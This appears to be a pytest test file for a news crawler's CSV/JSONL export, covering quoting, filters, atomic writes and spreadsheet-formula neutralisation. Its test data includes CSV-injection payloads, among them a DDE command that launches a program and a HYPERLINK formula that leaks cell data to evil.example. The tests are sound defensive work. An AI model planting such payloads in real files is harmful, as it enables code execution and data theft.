"""Exports: every value in its cell, whole files or none, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crawler.archive import Archive
from crawler.archive.schema import BY_NAME
from crawler.errors import ArchiveMissing, ConfigError, NewsarchiveError
from crawler.export import COLUMNS, ExportFilter, ExportOptions, export
from crawler.export import lines
from crawler.models import Article
from tests.memory import PEAK

from .making import FORMULA, NOW, PLAIN, WIRE, add, make_archive, make_many, revise

ALL = ExportFilter()
CSV = ExportOptions()
JSONL = ExportOptions(format="jsonl")
Row = dict[str, str]
csv.field_size_limit(16 * 1024**2)    # Python's own reader stops at 128 KB a cell


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Three articles of two outlets. By time: FORMULA (nine days before), WIRE (8:00), PLAIN (no time printed: seen at 12:01)."""
    return make_archive(tmp_path_factory.mktemp("archive") / "archive.db", WIRE, PLAIN, FORMULA)


def written(archive: Path, wanted: ExportFilter = ALL, options: ExportOptions = CSV) -> str:
    file = io.BytesIO()
    count = export(archive, file, wanted, options)
    text = file.getvalue().decode()
    if options.format == "csv":
        assert count + 1 == len(list(csv.reader(io.StringIO(text, newline=""))))
    return text


def rows(archive: Path, wanted: ExportFilter = ALL, options: ExportOptions = CSV) -> list[Row]:
    return list(csv.DictReader(io.StringIO(written(archive, wanted, options), newline="")))


def urls(archive: Path, **wanted: object) -> list[str]:
    return [row["url"].rpartition("/")[2] for row in rows(archive, ExportFilter(**wanted))]    # type: ignore[arg-type]


def test_every_cell_of_a_row(archive: Path) -> None:
    """All columns, in order, each with its value as text; list cells joined by '; ', times in ISO 8601 UTC."""
    assert {
        "id": "1", "url": "https://one.example/wire", "source_id": "one", "source": "The One, Ltd", "headline": 'Bridge, "opens"',
        "kicker": "City", "standfirst": "It is long.", "byline": "By Ann Lee, Bo Ek; Reuters", "authors": "Ann Lee; Bo, Ek; Reuters",
        "author_kinds": "person; person; agency", "dateline": "MOSCOW/Nowhere, May 3 (Reuters)", "dateline_places": "Moscow; Nowhere, Else",
        "dateline_countries": "RU; ", "latitude": "55.75222", "longitude": "37.61556", "dateline_date": "05-03", "agency": "Reuters",
        "section": "World", "genre": "opinion", "tags": "bridges; a, b", "language": "en-GB", "published_at": "2026-11-24T08:00:00Z",
        "published_printed": "8.00 GMT", "published_precision": "minute", "published_zone": "printed", "modified_at": "2026-11-24T09:00:00Z",
        "modified_printed": "9.00 GMT", "page_state": "full", "word_count": "7",
        "body": "First paragraph, with a comma.\n\nSecond “paragraph”.", "image_url": "https://one.example/i.jpg", "masthead": "The One",
        "licence": "CC BY", "opt_outs": "", "first_seen_at": "2026-11-24T12:00:00.123456Z", "last_seen_at": "2026-11-24T12:00:00.123456Z", "gone_at": "",
        "revision_count": "1", "revised_at": "", "story_id": "", "completeness": "complete", "charset": "utf-8", "charset_rule": "meta",
        "extractor": "newsarchive test", "rung": "full", "captured_at": "2026-11-24T12:00:00.123456Z",
        "final_url": "https://one.example/wire?final", "sha256": "0" * 64, "warc_file": "2026/11/x.warc.gz", "warc_offset": "0",
        "warc_length": "999",
    } == rows(archive)[1]


def test_header_is_the_documented_order(archive: Path) -> None:
    """The header names the columns in the order of COLUMNS; provenance only where it is asked for."""
    header = written(archive).split("\r\n", 1)[0]
    assert ",".join(column.name for column in COLUMNS if column.name != "provenance") == header
    assert "provenance\r\n" == written(archive, ExportFilter(search="nothing"), ExportOptions(columns=("provenance",)))


def test_every_column_is_described() -> None:
    """Each column has one sentence or more of prose; words for one thing are those of the database."""
    assert all(column.about.endswith(".") for column in COLUMNS)
    assert len(COLUMNS) == len({column.name for column in COLUMNS})
    database = {column.name for table in BY_NAME.values() if table.name != "coverage_fields" for column in table.columns}    # which counts fields under their names
    ours = {column.name for column in COLUMNS} - database
    assert {"source", "authors", "author_kinds", "dateline_places", "dateline_countries", "tags", "revised_at"} == ours


def test_order_is_by_time_and_number(archive: Path) -> None:
    """Oldest first, by the published time or else the first capture; the same on every call."""
    assert ["formula", "wire", "plain"] == urls(archive)
    assert written(archive) == written(archive)


def test_rfc_4180(archive: Path) -> None:
    """Lines end in CRLF, cells with commas, quotes or line breaks are quoted and quotes doubled."""
    text = written(archive, ExportFilter(sources=("one",)), ExportOptions(columns=("headline", "body", "id")))
    assert 'headline,body,id\r\n"Bridge, ""opens""","First paragraph, with a comma.\n\nSecond “paragraph”.",1\r\n' == text


def test_byte_order_mark(archive: Path) -> None:
    """--bom: Excel takes the file for UTF-8."""
    assert written(archive, options=ExportOptions(bom=True)).startswith("\ufeffid,url,")


def test_columns_in_the_order_that_was_asked_for(archive: Path) -> None:
    """--columns chooses and orders."""
    text = written(archive, ExportFilter(sources=("one",)), ExportOptions(columns=("agency", "id", "tags")))
    assert 'agency,id,tags\r\nReuters,1,"bridges; a, b"\r\n' == text


@pytest.mark.parametrize(("options", "words"), [
    (ExportOptions(columns=("id", "titel")), "no column 'titel'"),
    (ExportOptions(columns=("headlines",)), "did you mean 'headline'"),
    (ExportOptions(columns=("id", "id")), "column 'id' is named twice"),
    (ExportOptions(format="xml"), "no format 'xml'; there are: csv, jsonl"),
    (ExportOptions(format="jsonl", bom=True), "are for CSV"),
    (ExportOptions(format="jsonl", excel_safe=True), "are for CSV"),
])
def test_options_that_cannot_be(archive: Path, tmp_path: Path, options: ExportOptions, words: str) -> None:
    """Wrong options are refused before anything is written."""
    with pytest.raises(ConfigError, match=words):
        export(archive, tmp_path / "out.csv", ALL, options)
    assert [] == list(tmp_path.iterdir())


def test_excel_safe_neutralises_formulas(archive: Path) -> None:
    """Text that begins like a formula gets an apostrophe, list cells and full-width forms too; numbers and all else stay exact."""
    row = rows(archive, options=ExportOptions(excel_safe=True))[0]
    assert ("'=cmd|' /C calc'!A1", "'@ann", "'-1 is\ta number", "'+ann", "'＝full") == tuple(
        row[name] for name in ("headline", "byline", "body", "authors", "section"))
    assert ("-33.45", "-70.66", "plain") == (row["latitude"], row["longitude"], row["kicker"])
    exact = rows(archive)[0]
    assert ("=cmd|' /C calc'!A1", "＝full") == (exact["headline"], exact["section"])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_every_start_of_a_formula(tmp_path: Path, start: str) -> None:
    """Each character that makes a spreadsheet run a cell is neutralised."""
    path = make_many(tmp_path / "archive.db", 1)
    change(path, "headline", f"{start}1+1")
    assert f"'{start}1+1" == rows(path, options=ExportOptions(columns=("headline",), excel_safe=True))[0]["headline"]


def change(path: Path, column: str, value: object) -> None:
    """Put something into the database that the store would not."""
    archive = Archive.open(path, now=NOW)
    try:
        with archive.db.atomic():
            archive.db.conn.execute(f"UPDATE articles SET {column} = ?", (value,))
    finally:
        archive.close()


@pytest.fixture(scope="module")
def one_article(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_many(tmp_path_factory.mktemp("one") / "archive.db", 1)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=60))
def test_any_text_comes_back(one_article: Path, text: str) -> None:
    """Quotes, separators, line breaks, every letter: what csv reads is what the database holds, without NUL."""
    stored = text.encode("utf-8", "replace").decode()
    change(one_article, "headline", stored)
    assert stored.replace("\0", "") == rows(one_article)[0]["headline"]
    assert "\0" not in written(one_article)
    assert stored == json.loads(written(one_article, options=JSONL))["headline"]


HOSTILE_CELLS = (
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1", "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff=1", '"=1', '"" =1',
    "'=1", "a;=1+1", "a; =1+1;", "a\t=1+1\t", "a\n=1+1", "a\r=1+1;b", "a\n\n;\t =1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)',
    '","=1+1","', '";=1+1;"', '"\n=1+1\n"', "a,b", 'say "x"', '"', '""', "'", ";", "\n", "\r", "\r\n", "\t", " ", "a\x00b", "\x1b[31m", "\u202ex", "\u2028=1",
    "- one\n- two\n- three", "x" * 1_000_000, "\n" * 1_000_000, "=" * 100_000, "🜚" * 1000,
)


@pytest.mark.parametrize("cell", HOSTILE_CELLS, ids=lambda cell: ascii(cell[:20]))
def test_hostile_cells_come_back(one_article: Path, cell: str) -> None:
    """Without --excel-safe a cell is the text as stored, byte for byte, NUL aside: no reader of CSV is sent more or less."""
    change(one_article, "headline", cell)
    began = time.process_time()
    assert cell.replace("\0", "") == rows(one_article, options=ExportOptions(columns=("headline", "url")))[0]["headline"]
    safe = rows(one_article, options=ExportOptions(columns=("headline",), excel_safe=True))[0]["headline"]
    assert cell.replace("\0", "").replace("'", "") == safe.replace("'", "")    # nothing but apostrophes is added
    assert time.process_time() - began < 2


def formulas(text: str) -> list[str]:
    """The cells that a spreadsheet would run, whatever separator it expects and whether or not it reads the quotes."""
    read = [cell for separator in ",;\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    wrong = [cell for separator in ";\t" for line in re.split("[\r\n]", text) for cell in line.split(separator)]
    bare = (cell.lstrip(' \t\r\n"\u00a0\u3000\u200b\ufeff') for cell in (*read, *wrong))
    return [cell for cell in bare if cell.startswith(tuple("=+-@＝＋－＠"))]


SPREADSHEET = st.text(st.sampled_from(list("=+-@\t\r\n＝＋－＠ ;,|\"'a1\u00a0\u200b\ufeff")), max_size=25) | st.sampled_from(HOSTILE_CELLS[:45])


@settings(max_examples=400, deadline=None)
@given(one=SPREADSHEET, other=SPREADSHEET)
def test_excel_safe_holds_no_formula(one: str, other: str) -> None:
    """With --excel-safe no cell begins a formula: nor where the reader takes semicolons or tabs for separators and so sees other cells."""
    cells = (one, other, f"https://one.example/{one}", f"{one}; {other}")
    line = lines._record(tuple(lines._guarded(cell.encode()) for cell in cells)).replace(b"\0", b"")
    assert [] == formulas(line.decode())


def test_formulas_are_seen_without_it(one_article: Path) -> None:
    """The check above finds what it looks for: in a comma's file, in one that a semicolon's reader splits, behind a line break."""
    for cell, seen in (("=1+1", "=1+1"), ("a;=1+1;b", "=1+1"), ("a\n=1+1;b", "=1+1")):
        change(one_article, "headline", cell)
        assert seen in formulas(written(one_article, options=ExportOptions(columns=("headline", "url"))))


def test_broken_bytes_of_a_foreign_archive(one_article: Path) -> None:
    """Text that is no UTF-8 and JSON that is none are written as far as they can be read: an export never fails on them."""
    archive = Archive.open(one_article, now=NOW)
    try:
        with archive.db.atomic():
            archive.db.conn.execute("UPDATE articles SET kicker = CAST(x'63ff61' AS TEXT), provenance = '[[[', section = x'00ff'")
    finally:
        archive.close()
    options = ExportOptions(columns=("kicker", "provenance", "section"))
    assert ("c\ufffda", "[[[") == tuple(rows(one_article, options=options)[0].values())[:2]
    assert "c\ufffda" == json.loads(written(one_article, options=replace(options, format="jsonl")))["kicker"]


def test_jsonl_has_real_lists_and_nulls(archive: Path) -> None:
    """One object a line; authors and places as objects, numbers as numbers, null for what is absent."""
    row = [json.loads(line) for line in written(archive, options=JSONL).splitlines()][1]
    assert [{"name": "Ann Lee", "kind": "person", "role": "chief; correspondent", "place": "Kyiv", "url": None},
            {"name": "Bo; Ek", "kind": "person", "role": None, "place": None, "url": None},
            {"name": "Reuters", "kind": "agency", "role": None, "place": None, "url": None}] == row["authors"]
    assert {"name": "Moscow", "country": "RU", "region": None, "latitude": 55.75222, "longitude": 37.61556,
            "geoname_id": 524901} == row["dateline_places"][0]
    assert (["RU", None], ["bridges", "a; b"], None, 1, 55.75222) == tuple(
        row[name] for name in ("dateline_countries", "tags", "gone_at", "revision_count", "latitude"))
    asked = json.loads(written(archive, ExportFilter(sources=("one",)), ExportOptions("jsonl", ("provenance", "id"))))
    assert {"provenance": [{"field": "headline", "rule": "h1"}], "id": 1} == asked


@pytest.mark.parametrize(("expected", "wanted"), [
    (["wire", "plain"], {"since": datetime(2026, 11, 24, tzinfo=UTC)}),
    (["wire", "plain"], {"since": datetime(2026, 11, 24, 8, tzinfo=UTC)}),
    (["plain"], {"since": datetime(2026, 11, 24, 8, 0, 1, tzinfo=UTC)}),
    (["plain"], {"since": NOW + timedelta(minutes=1)}),
    (["formula"], {"until": datetime(2026, 11, 24, 8, tzinfo=UTC)}),
    (["formula", "wire"], {"until": NOW + timedelta(seconds=59)}),
    (["wire"], {"since": datetime(2026, 11, 24, tzinfo=UTC), "until": datetime(2026, 11, 24, 11, tzinfo=UTC)}),
    (["wire"], {"sources": ("one",)}),
    (["formula", "wire", "plain"], {"sources": ("one", "two")}),
    (["wire"], {"languages": ("en",)}),
    (["wire"], {"languages": ("EN-gb",)}),
    ([], {"languages": ("e",)}),
    ([], {"languages": ("%",)}),
    (["formula", "wire", "plain"], {"languages": ("en", "de")}),
    (["plain"], {"place": "zurich"}),
    (["wire"], {"place": "NOWHERE  else"}),
    (["wire"], {"place": "Moscow"}),
    ([], {"place": "Mos"}),
    (["wire"], {"search": "paragraph second"}),
    (["wire"], {"search": '"second paragraph"'}),
    ([], {"search": '"paragraph second"'}),
    (["plain"], {"search": "uber BRUCKE"}),
    (["plain"], {"search": "kyjiw", "sources": ("two",)}),
    ([], {"search": "kyjiw", "sources": ("one",)}),
    ([], {"search": "kyjiw OR second"}),
])
def test_filters(archive: Path, expected: list[str], wanted: dict[str, object]) -> None:
    """Each filter alone and together: time, outlet, language, place of the dateline, words."""
    assert expected == urls(archive, **wanted)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(search=st.text("ab\"'*()^:-+{}\0 \tNEAROT", max_size=15), place=st.none() | st.text(max_size=5))
def test_any_search_is_safe(archive: Path, search: str, place: str | None) -> None:
    """Whatever people type is searched for as words, never understood as the query language of FTS5."""
    urls(archive, search=search, place=place)


@pytest.mark.parametrize("search", ["", " ", '"', '""', "\0"])
def test_search_for_nothing_finds_nothing(archive: Path, search: str) -> None:
    """No words, no articles."""
    assert [] == urls(archive, search=search)


def test_unknown_source_is_an_error(archive: Path, tmp_path: Path) -> None:
    """A mistyped id is not an empty table."""
    with pytest.raises(NewsarchiveError, match=r"no source 'onne' in this archive; did you mean 'one'\? \(there are: one, two\)"):
        export(archive, tmp_path / "out.csv", ExportFilter(sources=("onne",)), CSV)
    assert [] == list(tmp_path.iterdir())


def test_missing_archive_is_an_error(tmp_path: Path) -> None:
    """Without an archive nothing is written."""
    with pytest.raises(ArchiveMissing):
        export(tmp_path / "archive.db", tmp_path / "out.csv", ALL, CSV)
    assert [] == list(tmp_path.iterdir())


def test_revised_article_is_one_row(tmp_path: Path) -> None:
    """One row an article: its newest reading, with the time when that was first seen and its capture."""
    path = make_archive(tmp_path / "archive.db", WIRE)
    revise(path, WIRE, body="Another text altogether.")
    [row] = rows(path)
    assert ("2", "2026-11-24T17:00:00.123456Z", "2026-11-24T12:00:00.123456Z", "500000", "Another text altogether.") == tuple(
        row[name] for name in ("revision_count", "revised_at", "first_seen_at", "warc_offset", "body"))


def test_crawl_in_progress_does_not_tear_it(tmp_path: Path) -> None:
    """What is archived while an export runs is in the next one: the first row's reading and the last one's are of one moment."""
    path = make_archive(tmp_path / "archive.db", WIRE, PLAIN)
    crawl = Archive.open(path, now=NOW)

    class Slow(io.BytesIO):
        def write(self, data: bytes) -> int:    # type: ignore[override]
            if not self.tell():
                add(crawl, replace(WIRE, url="https://one.example/late"), NOW + timedelta(hours=1), 9)
                crawl.db.conn.execute("UPDATE articles SET headline = 'changed in between'")
                crawl.db.conn.commit()
            return super().write(data)

    file = Slow()
    try:
        assert 2 == export(path, file, ALL, CSV)
        assert b"changed in between" not in file.getvalue()
        assert ["changed in between"] * 3 == [row["headline"] for row in rows(path)]
    finally:
        crawl.close()


def test_file_is_written_whole(archive: Path, tmp_path: Path) -> None:
    """A file holds what standard output would; an old one is replaced and keeps its permissions; nothing else is left."""
    path = tmp_path / "out.csv"
    assert 3 == export(archive, path, ALL, CSV)
    assert written(archive) == path.read_bytes().decode()
    path.chmod(0o640)
    export(archive, path, ExportFilter(sources=("one",)), CSV)
    assert 0o640 == stat.S_IMODE(path.stat().st_mode)
    assert [path] == list(tmp_path.iterdir())


def test_failure_leaves_the_old_file(archive: Path, tmp_path: Path) -> None:
    """Where the folder is missing or the name is a folder, the error names the path."""
    with pytest.raises(NewsarchiveError, match=r"no/out\.csv: No such file or directory"):
        export(archive, tmp_path / "no" / "out.csv", ALL, CSV)
    with pytest.raises(NewsarchiveError, match="Is a directory"):
        export(archive, tmp_path, ALL, CSV)
    with pytest.raises(NewsarchiveError, match="File name too long"):
        export(archive, tmp_path / ("x" * 300), ALL, CSV)
    assert [] == list(tmp_path.iterdir())


def test_links_are_not_written_through(archive: Path, tmp_path: Path) -> None:
    """A symbolic link that somebody put there leads to no other file, whether that exists or not."""
    secret = tmp_path / "secret"
    secret.write_text("mine")
    for target in (secret, tmp_path / "nothing"):
        link = tmp_path / "out.csv"
        link.symlink_to(target)
        with pytest.raises(NewsarchiveError, match="is a symbolic link; name the file that it stands for"):
            export(archive, link, ALL, CSV)
        link.unlink()
    assert "mine" == secret.read_text()
    assert [secret] == list(tmp_path.iterdir())


@pytest.mark.parametrize("suffix", ["", "-wal", "-lock"])
def test_archive_itself_is_no_output(tmp_path: Path, suffix: str) -> None:
    """`-o archive.db` does not replace the archive."""
    path = make_archive(tmp_path / "archive.db", WIRE)
    path.with_name("archive.db-wal").touch()
    with pytest.raises(NewsarchiveError, match="is the archive itself"):
        export(path, tmp_path / f"archive.db{suffix}", ALL, CSV)
    assert 1 == len(rows(path))


def test_devices_and_pipes_are_written_to_and_not_replaced(archive: Path, tmp_path: Path) -> None:
    """/dev/null stays a device; a named pipe is fed."""
    assert 3 == export(archive, Path("/dev/null"), ALL, CSV)
    assert stat.S_ISCHR(Path("/dev/null").stat().st_mode)
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with subprocess.Popen(["cat", str(pipe)], stdout=subprocess.PIPE) as reader:
        export(archive, pipe, ALL, CSV)
        assert reader.stdout
        assert written(archive).encode() == reader.stdout.read()


def program(*arguments: str | Path, code: str = "") -> list[str]:
    """The command line of an export in a process of its own."""
    start = ("import sys; from pathlib import Path; from crawler.errors import NewsarchiveError; from crawler.export import *\n"
             "out = Path(sys.argv[2]) if len(sys.argv) > 2 else sys.stdout.buffer\n"
             f"{code}\n"
             "try:\n    print(export(Path(sys.argv[1]), out, ExportFilter(), ExportOptions()), file=sys.stderr)\n"
             "except NewsarchiveError as error:\n    print('newsarchive:', error, file=sys.stderr); sys.exit(1)\n")
    return [sys.executable, "-c", start, *map(str, arguments)]


@pytest.fixture(scope="module")
def many(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """8,000 articles, 20 MB."""
    return make_many(tmp_path_factory.mktemp("many") / "archive.db", 8000)


def test_broken_pipe_ends_quietly(many: Path) -> None:
    """`newsarchive export | head -1`: no traceback, exit code 0."""
    with subprocess.Popen(program(many), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as child:
        assert child.stdout
        assert child.stderr
        assert child.stdout.readline().startswith("id,url,")
        child.stdout.close()
        assert child.stderr.read().strip().isdigit()
    assert 0 == child.returncode


@pytest.mark.parametrize(("arguments", "name"), [(["/dev/full"], "/dev/full"), ([], "standard output")])
def test_full_device_is_an_error(many: Path, arguments: list[str], name: str) -> None:
    """/dev/full, as output and as standard output: one line, exit code 1, no traceback."""
    with open("/dev/full", "wb") as full:
        done = subprocess.run(program(many, *arguments), stdout=full, stderr=subprocess.PIPE, text=True, check=False)
    assert (1, f"newsarchive: {name}: No space left on device\n") == (done.returncode, done.stderr)


def test_full_disk_leaves_the_old_file(many: Path, tmp_path: Path) -> None:
    """Where the disk is full in mid-export, the old file stays as it was and no other is left."""
    path = tmp_path / "out.csv"
    path.write_text("old")
    code = "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (1000000, 1000000))"    # Python ignores SIGXFSZ
    done = subprocess.run(program(many, path, code=code), stderr=subprocess.PIPE, text=True, check=False)
    assert (1, f"newsarchive: {path}: File too large\n") == (done.returncode, done.stderr)
    assert "old" == path.read_text()
    assert [path] == list(tmp_path.iterdir())


def test_a_kill_leaves_the_old_or_the_new_file(many: Path, tmp_path: Path) -> None:
    """SIGKILL at five moments of an export: the old file or the whole new one, never a part."""
    path = tmp_path / "out.csv"
    began = time.monotonic()
    subprocess.run(program(many, path), check=True, stderr=subprocess.DEVNULL)
    whole, took = path.read_bytes(), time.monotonic() - began
    survived = 0
    for part in (0.3, 0.5, 0.7, 0.9, 1.1):
        path.write_text("old")
        child = subprocess.Popen(program(many, path), stderr=subprocess.DEVNULL)
        time.sleep(took * part)
        child.kill()
        child.wait()
        assert path.read_bytes() in (b"old", whole)
        survived += path.read_bytes() == b"old"
    assert survived >= 2


def test_memory_does_not_grow_with_the_archive(many: Path, tmp_path: Path) -> None:
    """The peak memory of an export of 8,000 articles is that of 500, within 4 MB."""
    few = make_many(tmp_path / "archive.db", 500)
    code = PEAK + "import atexit; atexit.register(lambda: print(peak(), file=sys.stderr))"
    peaks = [int(subprocess.run(program(path, "/dev/null", code=code), stderr=subprocess.PIPE, text=True, check=True).stderr.split()[-1])
             for path in (few, many)]
    assert peaks[1] < peaks[0] + 4 * 1024


def test_ten_articles_of_eight_thousand(many: Path) -> None:
    """A filter that finds nothing still gives the header."""
    assert written(many, ExportFilter(search="nothing")).count("\r\n") == 1
    assert 1 == len(rows(many, ExportFilter(search='"7999"')))


def test_times_without_a_zone_are_a_mistake(archive: Path) -> None:
    """A naive `since` is refused: nobody guesses a zone."""
    with pytest.raises(ValueError, match="naive"):
        urls(archive, since=datetime(2026, 11, 24))    # noqa: DTZ001


def test_article_of_which_little_is_known(one_article: Path) -> None:
    """What is absent is an empty cell, in lists too."""
    change(one_article, "body", None)
    [row] = rows(one_article)
    assert {""} == {row[name] for name in ("authors", "dateline_places", "tags", "body", "word_count", "latitude", "sha256", "gone_at")}
